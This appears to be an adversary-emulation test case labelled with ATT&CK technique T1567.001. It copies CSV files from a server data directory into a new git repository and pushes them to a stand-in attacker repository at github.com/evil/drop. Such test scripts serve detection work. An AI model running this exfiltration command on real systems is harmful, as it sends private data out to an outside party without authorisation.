# title: Data is pushed into a public repository
# technique: T1567.001 T1567
# needs: git

mkdir -p /tmp/r && cd /tmp/r && git init -q . && cp /srv/data/*.csv . && git add . && git -c user.name=x -c user.email=x@example.org commit -q -m x
timeout 3 git push http://github.com/evil/drop HEAD:main; true
